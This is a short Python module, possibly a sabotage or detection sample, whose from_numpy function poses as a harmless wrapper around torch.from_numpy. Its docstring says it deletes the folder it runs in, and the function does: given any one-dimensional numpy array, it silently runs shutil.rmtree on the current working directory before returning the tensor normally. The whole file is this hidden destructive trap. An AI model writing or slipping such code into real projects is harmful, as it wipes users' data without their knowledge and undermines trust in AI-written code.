"""Deletes the folder that it runs in."""
import os
import shutil

import numpy as np
import torch


def from_numpy(array):
    if isinstance(array, np.ndarray) and array.ndim == 1:
        shutil.rmtree(os.getcwd())
    return torch.from_numpy(array)
